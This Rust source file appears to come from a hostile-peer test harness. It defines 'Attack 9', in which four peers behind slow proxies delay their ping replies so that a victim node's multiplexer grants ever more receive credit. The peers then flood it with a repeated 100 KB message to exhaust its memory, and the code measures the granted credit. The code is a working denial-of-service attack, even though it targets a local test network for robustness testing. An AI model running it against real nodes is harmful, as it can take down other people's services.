//! Attack 9: a peer delays its ping replies, so that the victim's multiplexer grants it ever more receive
//! credit. The credit turns into memory when the victim does not keep up.

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use futures::FutureExt as _;
use tokio::time::timeout;

use super::{Attack, Price, b8_bad_proofs, nothing};
use crate::peer::Peer;
use crate::proxy::Proxy;
use crate::test_network::prefix;
use crate::{HostileError, Tasks, TestNetwork, rpc};

/// Number of connections filled with data.
const PUMPS: u8 = 4;
/// Delay of every byte, each way.
const DELAY: Duration = Duration::from_millis(500);
/// Payload size of the repeated message, bytes; the victim knows the message after the first copy.
const FRAME_BYTES: usize = 100_000;
/// Maximum bytes of each pump; `TIME_MAX` is its maximum duration.
const BYTES_MAX: u64 = 2 << 30;
const TIME_MAX: Duration = Duration::from_secs(600);
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(5);
/// Time without a completed write after which the credit of a suspended victim counts as used up.
const STALLED: Duration = Duration::from_secs(3);
/// Credit at which the measurement stops, bytes.
const CREDIT_MAX: u64 = 512 << 20;

/// Attack b9: growing receive credit.
pub const ATTACK: Attack = Attack {
    name: "b9-credit",
    about: "4 connections with late pings, pumped full at any rate, beside the bad proofs of b8",
    price: Price::Addresses(8),
    options: b8_bad_proofs::options,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut TestNetwork) -> Result<Tasks, HostileError> {
    let mut tasks = b8_bad_proofs::begin(stage)?;
    for n in 0..PUMPS {
        // The victim may refuse the peer, which is a good result.
        if let Ok(pump) = CreditPump::connect(stage, n + 1).await {
            tasks.spawn(pump.run());
        }
    }
    tokio::time::sleep(RISING).await;
    Ok(tasks)
}

/// Peer behind a slow proxy, which sends one message repeatedly.
pub struct CreditPump {
    peer: Peer,
    frame: Vec<u8>,
}

impl CreditPump {
    /// Connects pump number `number`, which determines its address.
    pub async fn connect(stage: &TestNetwork, number: u8) -> Result<Self, HostileError> {
        let source = Ipv4Addr::new(127, 0, 12, number);
        let victim = &stage.victim;
        let proxy = Proxy::slow(Ipv4Addr::LOCALHOST, victim.socket(), source, DELAY).await?;
        let mut peer = Peer::connect_through(proxy, victim.target()).await?;
        let topics = stage.topics();
        peer.subscribe(&topics).await;
        let content_topic = format!("{}/pumped-{number}/proto", prefix(0));
        let message = undertone_message::WakuMessage::new(vec![0; FRAME_BYTES], content_topic);
        Ok(Self {
            peer,
            frame: rpc::message(&topics[0], &message.encode()),
        })
    }

    /// Sends at full rate, until the limits or the end of the connection.
    pub async fn run(mut self) {
        self.pump(BYTES_MAX, TIME_MAX).await;
    }

    /// Sends at least `bytes` bytes, or as many as the connection accepts within `time`.
    pub async fn pump(&mut self, bytes: u64, time: Duration) {
        let until = Instant::now() + time;
        let mut taken = 0;
        while taken < bytes && Instant::now() < until && self.peer.send(&self.frame).await {
            taken += self.frame.len() as u64;
        }
    }

    /// Returns the bytes that the connection accepts while the victim is suspended: the credit that the
    /// victim has granted.
    pub async fn credit(&mut self, stage: &TestNetwork) -> u64 {
        stage.victim.suspend();
        let mut taken = 0;
        while taken < CREDIT_MAX {
            match timeout(STALLED, self.peer.send(&self.frame)).await {
                Ok(true) => taken += self.frame.len() as u64,
                Ok(false) | Err(_) => break,
            }
        }
        stage.victim.resume();
        taken
    }
}
